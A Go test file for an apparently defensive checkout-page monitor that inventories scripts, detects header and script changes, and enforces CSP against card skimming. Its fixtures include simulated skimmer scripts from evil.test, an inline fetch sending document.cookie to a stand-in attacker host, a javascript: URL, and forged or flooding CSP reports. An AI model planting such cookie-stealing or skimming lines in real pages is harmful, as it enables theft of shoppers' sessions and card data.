package paymentpage

import (
	"bytes"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"
)

func newPage(t *testing.T, mode string) (*Page, *Store, *[]Event) {
	t.Helper()
	st, err := Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	var events []Event
	p, err := New(Config{Store: st, Site: "shop.test", Hosts: []string{"shop.test"}, Path: "/checkout", Mode: mode,
		OnChange: func(e Event) { events = append(events, e) }})
	if err != nil {
		t.Fatal(err)
	}
	return p, st, &events
}

func serve(p *Page, h http.Header, html string) {
	r, _ := http.NewRequest("GET", "https://shop.test/checkout", nil)
	if w := p.Observe(r, 200, h); w != nil {
		w.Write([]byte(html))
		w.Close()
	}
}

func kinds(events []Event) string {
	var out []string
	for _, e := range events {
		out = append(out, e.Kind+" "+e.Subject)
	}
	return strings.Join(out, "; ")
}

func TestScanHTML(t *testing.T) {
	page, _ := url.Parse("https://shop.test/checkout/pay?order=1")
	html := `<!doctype html><html><head>
<script src="https://js.stripe.com/v3/" integrity="sha384-abc"></script>
<script src="/static/app.js?v=4111111111111111"></script>
<script type="application/ld+json">{"not":"a script"}</script>
<script type="module" src="mod.js"></script>
<script>window.x = 1;</script>
<SCRIPT SRC="//cdn.test/lib.js"></SCRIPT>
</head><body><p>hi</p></body></html>`
	// The inline hash is openssl's: printf 'window.x = 1;' | openssl dgst -sha256 -binary | base64
	got, cut := scanHTML(page, strings.NewReader(html))
	want := []string{"https://js.stripe.com/v3/ sha384-abc", "https://shop.test/static/app.js ", "https://shop.test/checkout/mod.js ",
		"inline sha256-U1BU0BfAhaBREBgsEDDctSYokOF3U7hQUIj6mrtukfw= ", "https://cdn.test/lib.js "}
	var keys []string
	for _, s := range got {
		keys = append(keys, s.key()+" "+s.integrity)
	}
	if strings.Join(keys, "|") != strings.Join(want, "|") || cut {
		t.Errorf("scripts\n%s\nwant\n%s (cut %v)", strings.Join(keys, "\n"), strings.Join(want, "\n"), cut)
	}
	// A token past the bound stops the scan, said as cut; memory stays bounded.
	huge := "<script>" + strings.Repeat("a", maxToken+10) + "</script><script src=/late.js></script>"
	if _, cut := scanHTML(page, strings.NewReader(huge)); !cut {
		t.Error("an inline script past the bound was not said to be cut")
	}
}

// TestHeaderChanges: the app drops X-Frame-Options, then weakens its CSP:
// each fires once, naming the header; unchanged loads fire nothing.
func TestHeaderChanges(t *testing.T) {
	p, _, events := newPage(t, Learn)
	h := http.Header{"Content-Type": {"text/html"}, "Content-Security-Policy": {"frame-ancestors 'none'"}, "X-Frame-Options": {"DENY"}}
	serve(p, h, "")
	serve(p, h, "")
	if len(*events) != 0 {
		t.Fatalf("the first loads raised %s", kinds(*events))
	}
	h.Del("X-Frame-Options")
	serve(p, h, "")
	serve(p, h, "")
	h.Set("Content-Security-Policy", "frame-ancestors *")
	serve(p, h, "")
	serve(p, h, "")
	if got := kinds(*events); got != "header_dropped X-Frame-Options; header_changed Content-Security-Policy" {
		t.Errorf("events %q; want the drop, then the change, once each", got)
	}
}

func TestScriptChanges(t *testing.T) {
	p, st, events := newPage(t, Enforce)
	h := http.Header{"Content-Type": {"text/html; charset=utf-8"}}
	serve(p, h, `<script src="https://js.stripe.com/v3/"></script>`)
	if got := kinds(*events); got != "script_unapproved https://js.stripe.com/v3/" {
		t.Fatalf("baseline in enforce: %q; want the unapproved script only", got)
	}
	*events = nil
	if err := st.Flush(); err != nil {
		t.Fatal(err)
	}
	if err := Decide(st.dir, "shop.test/checkout", "https://js.stripe.com/v3/", "approved", "Stripe Elements: the card form", "ops@shop", time.Now()); err != nil {
		t.Fatal(err)
	}
	if changed, err := st.ReloadApprovals(); !changed || err != nil {
		t.Fatalf("approvals not reloaded: %v %v", changed, err)
	}
	rh := http.Header{}
	p.Respond(rh)
	if csp := rh.Get("Content-Security-Policy"); csp != "script-src https://js.stripe.com/v3/; frame-src 'none'; connect-src 'self'; report-uri "+ReportPath+"; report-to rampart-csp" {
		t.Errorf("enforced policy %q", csp)
	}
	serve(p, h, `<script src="https://js.stripe.com/v3/"></script><script src="https://evil.test/skim.js"></script><script>steal()</script>`)
	serve(p, h, `<script src="https://js.stripe.com/v3/" integrity="sha384-new"></script>`)
	want := "script_new https://evil.test/skim.js; script_unapproved https://evil.test/skim.js; " +
		"script_new inline sha256-VafrKPhb16t7bcXd+/s/XXEhClav+rUYVk+Nc0pSxDc=; script_unapproved inline sha256-VafrKPhb16t7bcXd+/s/XXEhClav+rUYVk+Nc0pSxDc=; " +
		"script_changed https://js.stripe.com/v3/; script_unapproved https://js.stripe.com/v3/"
	if got := kinds(*events); got != want {
		t.Errorf("events\n%s\nwant\n%s", got, want)
	}
	rh = http.Header{}
	p.Respond(rh)
	if csp := rh.Get("Content-Security-Policy"); !strings.HasPrefix(csp, "script-src 'none';") {
		t.Errorf("a script changed since its approval is still allowed: %q", csp)
	}
}

// TestCollectorHostile: oversized, malformed, foreign and card-carrying
// reports; what is kept holds no query, and flooding cannot grow it past its
// bound.
func TestCollectorHostile(t *testing.T) {
	p, st, _ := newPage(t, Learn)
	report := func(doc, blocked, directive string) []byte {
		return []byte(fmt.Sprintf(`{"csp-report":{"document-uri":%q,"blocked-uri":%q,"effective-directive":%q,"violated-directive":"script-src-elem"}}`, doc, blocked, directive))
	}
	for _, tt := range []struct {
		name, ct string
		body     []byte
		want     int
	}{
		{"a report", "application/csp-report", report("https://shop.test/checkout?card=4111111111111111", "https://cdn.test/pay.js?pan=4111111111111111#x", "script-src-elem"), 204},
		{"a batch", "application/reports+json", []byte(`[{"type":"csp-violation","body":{"documentURL":"https://shop.test/checkout/step2","blockedURL":"https://api.pay.test/v1/4111-1111-1111-1111/x","effectiveDirective":"connect-src"}},{"type":"deprecation","body":{}}]`), 204},
		{"not JSON", "application/csp-report", []byte(`{"csp-report":`), 400},
		{"two objects", "application/csp-report", append(report("https://shop.test/checkout", "https://a.test/a.js", "script-src"), '{', '}'), 400},
		{"another site's page", "application/csp-report", report("https://evil.test/checkout", "https://a.test/a.js", "script-src"), 400},
		{"a page not a payment page", "application/csp-report", report("https://shop.test/blog", "https://ads.test/a.js", "script-src"), 204},
		{"another type", "text/plain", report("https://shop.test/checkout", "https://a.test/a.js", "script-src"), 415},
		{"a javascript: URL", "application/csp-report", report("https://shop.test/checkout", "javascript:alert(1)", "script-src"), 204},
		{"a batch too big", "application/reports+json", []byte("[" + strings.Repeat(`{"type":"x"},`, 40) + `{"type":"x"}]`), 400},
	} {
		if got := p.Collect(tt.ct, tt.body); got != tt.want {
			t.Errorf("%s: %d; want %d", tt.name, got, tt.want)
		}
	}
	if err := st.Flush(); err != nil {
		t.Fatal(err)
	}
	data, _ := os.ReadFile(filepath.Join(st.dir, inventoryFile))
	for _, leak := range []string{"4111", "card=", "pan=", "ads.test", "javascript", "#x"} {
		if bytes.Contains(data, []byte(leak)) {
			t.Errorf("the inventory holds %q:\n%s", leak, data)
		}
	}
	rows, err := List(st.dir)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range rows {
		got = append(got, r.Kind+" "+r.URL+" "+r.Status)
	}
	if want := "connect https://api.pay.test pending|script https://cdn.test/pay.js pending"; strings.Join(got, "|") != want {
		t.Errorf("inventory %q; want %q", strings.Join(got, "|"), want)
	}

	// A flood of made-up scripts: reports have room for maxReported, and
	// the heap does not grow with the flood.
	var before runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	for i := range 20000 {
		p.Collect("application/csp-report", report("https://shop.test/checkout", fmt.Sprintf("https://x%d.test/a.js", i), "script-src"))
	}
	st.mu.Lock()
	n := len(st.inv.Pages["shop.test/checkout"].Resources)
	st.mu.Unlock()
	if n != maxReported {
		t.Errorf("after a flood the page holds %d resources; want the reports' room, %d", n, maxReported)
	}
	var after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&after)
	if grown := int64(after.HeapAlloc) - int64(before.HeapAlloc); grown > 2<<20 {
		t.Errorf("the heap grew %d bytes over a flood of 20000 reports; want it bounded (under 2 MiB)", grown)
	}

	// Forged reports cannot hide a script the page really serves.
	var events []Event
	p.cfg.OnChange = func(e Event) { events = append(events, e) }
	serve(p, http.Header{"Content-Type": {"text/html"}}, `<script src="https://pay.test/a.js"></script>`)
	serve(p, http.Header{"Content-Type": {"text/html"}}, `<script src="https://pay.test/a.js"></script><script src="https://skim.test/x.js"></script>`)
	if got := kinds(events); got != "script_new https://pay.test/a.js; script_new https://skim.test/x.js" {
		t.Errorf("after the flood, the page's scripts raised %q; want a script_new each", got)
	}
}

// TestOnlyThePageCounts: a HEAD, the route's JSON and a nonce that changes
// with each response raise nothing, and a HEAD is not the page's baseline.
func TestOnlyThePageCounts(t *testing.T) {
	p, _, events := newPage(t, Learn)
	page := http.Header{"Content-Type": {"text/html"}, "X-Frame-Options": {"DENY"}}
	head, _ := http.NewRequest("HEAD", "https://shop.test/checkout", nil)
	if w := p.Observe(head, 200, page); w != nil {
		t.Fatal("a HEAD's body is to be read")
	}
	for i := range 3 {
		h := page.Clone()
		h.Set("Content-Security-Policy", fmt.Sprintf("script-src 'nonce-%d' 'strict-dynamic'", i))
		serve(p, h, `<script src="https://pay.test/a.js"></script>`)
		serve(p, http.Header{"Content-Type": {"application/json"}}, `{}`)
	}
	if len(*events) != 0 {
		t.Errorf("events %q; want none", kinds(*events))
	}
}

// TestVaryingInline: inline scripts that change with each response are one
// entry and one alert past maxInline, not one per response.
func TestVaryingInline(t *testing.T) {
	p, st, events := newPage(t, Learn)
	for i := range 100 {
		serve(p, http.Header{"Content-Type": {"text/html"}}, fmt.Sprintf(`<script>var order = %d;</script>`, i))
	}
	if n := len(*events); n != maxInline {
		t.Errorf("%d events over 100 responses; want %d (the first is the baseline, then one each up to %d, then one for the rest)", n, maxInline, maxInline)
	}
	if last := (*events)[len(*events)-1]; last.Subject != varyingInline {
		t.Errorf("the last event is for %q; want %q", last.Subject, varyingInline)
	}
	st.mu.Lock()
	n := len(st.inv.Pages["shop.test/checkout"].Resources)
	st.mu.Unlock()
	if n != maxInline+1 {
		t.Errorf("the page holds %d resources; want %d", n, maxInline+1)
	}
	// Two hours on, a script injected inline is its own alert again.
	later := time.Now().Add(2 * time.Hour)
	st.now = func() time.Time { return later }
	*events = nil
	serve(p, http.Header{"Content-Type": {"text/html"}}, `<script>fetch("https://evil.test/"+document.cookie)</script>`)
	if got := kinds(*events); !strings.HasPrefix(got, "script_new inline sha256-") {
		t.Errorf("an inline script injected later raised %q; want its own script_new", got)
	}
}

// TestEnforcedSources: approved URLs become CSP sources that cannot end the
// policy; a masked one the exact path the page names (never a prefix); the
// app's reporting headers stay.
func TestEnforcedSources(t *testing.T) {
	p, st, _ := newPage(t, Enforce)
	serve(p, http.Header{"Content-Type": {"text/html"}}, `<script src="https://cdn.test/combine/npm/a@1,npm/b@2;x"></script><script src="https://cdn.test/v/123456789012345/app.js"></script>`)
	if err := st.Flush(); err != nil {
		t.Fatal(err)
	}
	for _, u := range []string{"https://cdn.test/combine/npm/a@1,npm/b@2;x", "https://cdn.test/v/[digits]/app.js"} {
		if err := Decide(st.Dir(), "shop.test/checkout", u, "approved", "ours", "ops", time.Now()); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := st.ReloadApprovals(); err != nil {
		t.Fatal(err)
	}
	h := http.Header{"Reporting-Endpoints": {`app="/reports"`}}
	p.Respond(h)
	if csp := h.Get("Content-Security-Policy"); !strings.HasPrefix(csp, "script-src https://cdn.test/combine/npm/a@1%2Cnpm/b@2%3Bx https://cdn.test/v/123456789012345/app.js; frame-src") {
		t.Errorf("enforced policy %q", csp)
	}
	if got := h.Values("Reporting-Endpoints"); len(got) != 2 || got[0] != `app="/reports"` {
		t.Errorf("Reporting-Endpoints %q; want the app's, then rampart's", got)
	}
}

func TestLearnSampling(t *testing.T) {
	st, _ := Open(t.TempDir())
	p, err := New(Config{Store: st, Site: "shop.test", Hosts: []string{"shop.test"}, Path: "/pay", Sample: 0.25})
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for range 4000 {
		h := http.Header{}
		p.Respond(h)
		if h.Get("Content-Security-Policy-Report-Only") != "" {
			n++
			if h.Get("Reporting-Endpoints") != `rampart-csp="`+ReportPath+`"` {
				t.Fatalf("Reporting-Endpoints %q", h.Get("Reporting-Endpoints"))
			}
		}
	}
	if n < 800 || n > 1200 {
		t.Errorf("%d of 4000 responses sampled; want about 1000", n)
	}
	for _, c := range []Config{{Store: st, Site: "a", Hosts: []string{"a"}, Mode: "block"}, {Store: st, Site: "a", Hosts: []string{"a"}, Sample: 1.5}, {Site: "a"}} {
		if _, err := New(c); err == nil {
			t.Errorf("New(%+v) took it", c)
		}
	}
}

func FuzzParseReports(f *testing.F) {
	f.Add("application/csp-report", []byte(`{"csp-report":{"document-uri":"https://a.test/","blocked-uri":"https://b.test/x.js?q=1","effective-directive":"script-src"}}`))
	f.Add("application/reports+json", []byte(`[{"type":"csp-violation","body":{"documentURL":"https://a.test/","blockedURL":"eval","effectiveDirective":"script-src"}}]`))
	f.Fuzz(func(t *testing.T, ct string, body []byte) {
		vs, _ := parseReports(ct, body)
		for _, v := range vs {
			for _, s := range []string{v.document, v.blocked} {
				_, rest, _ := strings.Cut(s, "://")
				_, path, _ := strings.Cut(rest, "/")
				if strings.ContainsAny(s, "?#@") || longDigits(path) {
					t.Fatalf("kept %q", s)
				}
			}
		}
	})
}

// TestDecideRefuses: a decision names a page and a resource the inventory
// holds, with a justification and its author.
func TestDecideRefuses(t *testing.T) {
	p, st, _ := newPage(t, Learn)
	serve(p, http.Header{"Content-Type": {"text/html"}}, `<script src="https://js.pay.test/v3/"></script>`)
	if err := st.Flush(); err != nil {
		t.Fatal(err)
	}
	now := time.Now()
	for _, tt := range []struct{ name, page, url, status, just, by, want string }{
		{"an unknown page", "shop.test/cart", "https://js.pay.test/v3/", "approved", "card form", "ops", "it has shop.test/checkout"},
		{"an unknown script", "shop.test/checkout", "https://js.pay.test/v2/", "approved", "card form", "ops", "scripts list"},
		{"no justification", "shop.test/checkout", "https://js.pay.test/v3/", "approved", " ", "ops", "justification"},
		{"nobody", "shop.test/checkout", "https://js.pay.test/v3/", "approved", "card form", "", "who made it"},
		{"a status", "shop.test/checkout", "https://js.pay.test/v3/", "allowed", "card form", "ops", "approved or rejected"},
	} {
		if err := Decide(st.Dir(), tt.page, tt.url, tt.status, tt.just, tt.by, now); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: %v; want an error saying %q", tt.name, err, tt.want)
		}
	}
	if _, err := os.Stat(filepath.Join(st.Dir(), approvalsFile)); !os.IsNotExist(err) {
		t.Errorf("a refused decision wrote the approvals: %v", err)
	}
}

// TestDecideAsRoot: root deciding for a rampart that runs as another user
// (systemd's DynamicUser) leaves approvals.json to that user, so rampart can
// read it.
func TestDecideAsRoot(t *testing.T) {
	if os.Geteuid() != 0 {
		if os.Getenv("CI") == "true" {
			t.Fatal("CI runs as root; this test needs it")
		}
		t.Skip("needs root, to write as another user")
	}
	p, st, _ := newPage(t, Learn)
	serve(p, http.Header{"Content-Type": {"text/html"}}, `<script src="https://js.pay.test/v3/"></script>`)
	if err := st.Flush(); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(st.Dir(), 65534, 65534); err != nil {
		t.Fatal(err)
	}
	if err := Decide(st.Dir(), "shop.test/checkout", "https://js.pay.test/v3/", "approved", "card form", "root", time.Now()); err != nil {
		t.Fatal(err)
	}
	fi, err := os.Stat(filepath.Join(st.Dir(), approvalsFile))
	if err != nil {
		t.Fatal(err)
	}
	if uid := fi.Sys().(*syscall.Stat_t).Uid; uid != 65534 || fi.Mode().Perm() != 0o600 {
		t.Errorf("approvals.json is uid %d mode %v; want the directory's owner, 65534, and 0600", uid, fi.Mode().Perm())
	}
}

// TestScriptContent: a script a page loads is hashed as rampart serves it;
// the approval pins that content, and a change is an alert that lapses it;
// a script that changes with each response is said to vary, once.
func TestScriptContent(t *testing.T) {
	p, st, events := newPage(t, Enforce)
	serve(p, http.Header{"Content-Type": {"text/html"}}, `<script src="/static/app.js"></script>`)
	*events = nil
	fetch := func(body string) {
		r, _ := http.NewRequest("GET", "https://shop.test/static/app.js", nil)
		if !p.WantsScript("shop.test", "/static/app.js") || p.WantsScript("shop.test", "/static/other.js") {
			t.Fatal("WantsScript does not know the page's scripts")
		}
		w := p.Observe(r, 200, http.Header{"Content-Type": {"text/javascript"}}) // not a page
		if w != nil {
			t.Fatal("a script was observed as a page")
		}
		w = p.ObserveScript(r, 200, http.Header{"Content-Type": {"text/javascript; charset=utf-8"}})
		if w == nil {
			t.Fatal("the page's script is not observed")
		}
		w.Write([]byte(body))
		w.Close()
	}
	fetch("console.log('v1')")
	if err := st.Flush(); err != nil {
		t.Fatal(err)
	}
	// openssl's: printf "console.log('v1')" | openssl dgst -sha256 -binary | base64
	const v1 = "sha256-/Hh+MFcfdqyp/FEFdodgF/OJ48As+MQ4B/cMdmx8zqc="
	rows, _ := List(st.Dir())
	if len(rows) != 1 || rows[0].Hash != v1 {
		t.Fatalf("inventory %+v; want the script with hash %s", rows, v1)
	}
	if err := Decide(st.Dir(), "shop.test/checkout", "https://shop.test/static/app.js", "approved", "our checkout", "ops", time.Now()); err != nil {
		t.Fatal(err)
	}
	st.ReloadApprovals()
	h := http.Header{}
	p.Respond(h)
	if !strings.HasPrefix(h.Get("Content-Security-Policy"), "script-src https://shop.test/static/app.js;") {
		t.Fatalf("approved: policy %q", h.Get("Content-Security-Policy"))
	}
	fetch("console.log('v1')")
	// A client asking for the script by another query proves nothing
	// about what the page runs: not hashed.
	other, _ := http.NewRequest("GET", "https://shop.test/static/app.js?v=evil", nil)
	if w := p.ObserveScript(other, 200, http.Header{"Content-Type": {"text/javascript"}}); w != nil {
		w.Write([]byte("anything"))
		w.Close()
	}
	if len(*events) != 0 {
		t.Fatalf("another query's content counted: %q", kinds(*events))
	}
	fetch("steal(document.forms)")
	h = http.Header{}
	p.Respond(h)
	if !strings.HasPrefix(h.Get("Content-Security-Policy"), "script-src 'none';") {
		t.Errorf("changed content still allowed: %q", h.Get("Content-Security-Policy"))
	}
	fetch("x=2")
	fetch("x=3")
	fetch("x=4")
	var got []string
	for _, e := range *events {
		got = append(got, e.Kind+": "+e.Detail)
	}
	if len(got) != 3 || !strings.Contains(got[0], v1+" → ") || !strings.Contains(got[2], "varies with each response") {
		t.Errorf("events:\n%s\nwant a change from %s, another, then that it varies", strings.Join(got, "\n"), v1)
	}
}

// TestApprovalBeforeContent: an approval made before rampart served the
// script pins no content, and its first content does not lapse it.
func TestApprovalBeforeContent(t *testing.T) {
	p, st, events := newPage(t, Enforce)
	serve(p, http.Header{"Content-Type": {"text/html"}}, `<script src="/static/app.js"></script>`)
	st.Flush()
	if err := Decide(st.Dir(), "shop.test/checkout", "https://shop.test/static/app.js", "approved", "ours", "ops", time.Now()); err != nil {
		t.Fatal(err)
	}
	st.ReloadApprovals()
	*events = nil
	r, _ := http.NewRequest("GET", "https://shop.test/static/app.js", nil)
	w := p.ObserveScript(r, 200, http.Header{"Content-Type": {"text/javascript"}})
	w.Write([]byte("console.log(1)"))
	w.Close()
	h := http.Header{}
	p.Respond(h)
	if !strings.HasPrefix(h.Get("Content-Security-Policy"), "script-src https://shop.test/static/app.js;") || len(*events) != 0 {
		t.Errorf("policy %q, events %q; want the script still allowed, nothing raised", h.Get("Content-Security-Policy"), kinds(*events))
	}
}
